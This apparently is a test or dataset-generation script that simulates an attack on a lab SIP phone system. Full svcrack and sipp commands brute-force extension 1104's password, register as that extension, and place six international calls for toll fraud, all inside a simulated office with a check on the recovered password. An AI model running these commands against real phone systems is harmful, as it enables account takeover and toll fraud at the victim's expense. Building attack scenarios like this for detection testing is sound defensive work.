# One host guesses the password of an account, registers with it and calls external numbers with it.
relocate example.org 5060 10.77.1 198.51.100 100.64.7
EXTENSIONS=(1101 1102 1103 1104 1105 1106 1107)
EXISTING='^11[0-1][0-9]$'
WEAK=1104
WEAK_PASSWORD=autumn12
open_office
add_attacker thief 100.64.7.88
start_office_capture
keep_alive 17
office_day 208 120
words >"$scratch/words"
at 8 attack A1 password_cracking thief 5094 "svcrack tries words as passwords of 1104 until one is right." \
    "$(version_of svcrack)" svcrack -b 100.64.7.88 -x 100.64.7.88 -P 5094 -t 0.25 -u "$WEAK" -d "$scratch/words" 10.77.1.1
at 52 attack A2 hijack:account_takeover thief 5095 "With the guessed password the same host registers as 1104." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 100.64.7.88 -p 5095 -s "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" 10.77.1.1:5060
printf '%s\n' SEQUENTIAL '0088213101;' '0088213102;' '0025261501;' '0025261502;' '0053701010;' '0088213101;' >"$scratch/numbers.csv"
at 66 attack A3 toll_fraud thief 5096 "As 1104 the same host calls six numbers abroad, several at once." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 100.64.7.88 -mi 100.64.7.88 -p 5096 -key user "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" -d 18000 \
    -r 1 -rp 5000 -m 6 -l 6 10.77.1.1:5060
echo "$WEAK toll_fraud" >>"$scratch/users"
play
wait_for A1 A2 A3
close_office
expect_said A1 "$WEAK_PASSWORD"
